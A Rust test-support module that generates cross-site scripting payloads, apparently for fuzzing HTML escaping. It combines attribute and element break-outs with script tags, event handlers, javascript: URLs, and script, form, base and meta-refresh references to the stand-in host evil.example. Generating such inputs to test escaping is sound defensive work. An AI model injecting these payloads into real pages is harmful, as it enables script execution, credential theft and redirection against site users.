//! Hostile texts: ways out of every place in which a page could put a text, and then what begins a script, draws a form
//! or loads something. Others are addresses of other hosts, or of scripts.

use std::collections::BTreeSet;

use fastrand::Rng;

/// Ways out of attributes, elements with text alone, comments and sections.
const WAYS_OUT: [&str; 12] =
    ["\"", "' ", "\">", "'>", "</title>", "</textarea>", "</pre>", "</script>", "</style>", "</svg>", "-->", "]]>"];
/// What a page must not have. Each begins an element or a comment.
const ELEMENTS: [&str; 22] = [
    "<script>x</script>",
    "<ScRiPt>x</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<img src=x onerror=x>",
    "<img/src=x/onerror=x>",
    "<svg/onload=x>",
    "<svg><script>x</script></svg>",
    "<iframe src=javascript:x></iframe>",
    "<body onload=x>",
    "<a href=javascript:x>a</a>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<object data=x></object>",
    "<embed src=x>",
    "<math><mtext>x</mtext></math>",
    "<details open ontoggle=x>a</details>",
    "<input autofocus onfocus=x>",
    "<video><source onerror=x></video>",
    "<style>*{}</style>",
    "<!--",
];
/// Texts that another program could decode or fill in, before or after the others.
const FILLS: [&str; 10] = [
    "",
    " ",
    "a",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "{{7*7}}",
    "\u{e9}",
    "\u{65e5}\u{672c}",
];
/// New attributes of the element in whose attribute a text is.
const ATTRIBUTES: &str = "\" onmouseover=x autofocus style=\"x";
const ADDRESSES: [&str; 4] = ["javascript:x", "JaVaScRiPt:x", "//evil.example/x", "data:text/html,x"];

/// A hostile text.
#[derive(Debug, Clone)]
pub(crate) struct Payload {
    pub(crate) text: String,
    /// Whether the text is hostile as an address, and otherwise as a part of a page.
    pub(crate) is_address: bool,
}

impl Payload {
    /// Returns the text as a page shows it.
    pub(crate) fn escaped(&self) -> String {
        self.text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
    }

    /// Returns a link to the text.
    pub(crate) fn as_address(&self) -> String {
        format!("<a href=\"{}\">a</a>", self.escaped())
    }
}

/// Returns different hostile texts: the addresses first, and then drawn ones.
pub(crate) fn payloads(count: usize, seed: u64) -> Vec<Payload> {
    let addresses = ADDRESSES.map(|text| Payload { text: text.to_owned(), is_address: true });
    let (mut draw, mut texts) = (Rng::with_seed(seed), BTreeSet::new());
    // One text leaves every place and has everything.
    texts.insert([WAYS_OUT.concat(), ELEMENTS.concat()].concat());
    texts.insert([WAYS_OUT.concat(), ATTRIBUTES.to_owned()].concat());
    while texts.len() + addresses.len() < count {
        texts.insert(text(&mut draw));
    }
    let drawn = texts.into_iter().map(|text| Payload { text, is_address: false });
    addresses.into_iter().chain(drawn).collect()
}

fn text(draw: &mut Rng) -> String {
    let mut ways_out = WAYS_OUT;
    draw.shuffle(&mut ways_out);
    let (ways, before, after) = (draw.usize(..WAYS_OUT.len()), draw.usize(..FILLS.len()), draw.usize(..FILLS.len()));
    let element = ELEMENTS[draw.usize(..ELEMENTS.len())];
    format!("{}{}{element}{}", FILLS[before], ways_out[..ways].concat(), FILLS[after])
}

#[test]
fn payloads_differ_and_are_the_same_again() {
    let texts: Vec<String> = payloads(1000, 1).into_iter().map(|payload| payload.text).collect();

    assert_eq!(texts.iter().collect::<BTreeSet<_>>().len(), 1000);
    assert_eq!(texts, payloads(1000, 1).into_iter().map(|payload| payload.text).collect::<Vec<_>>());
}
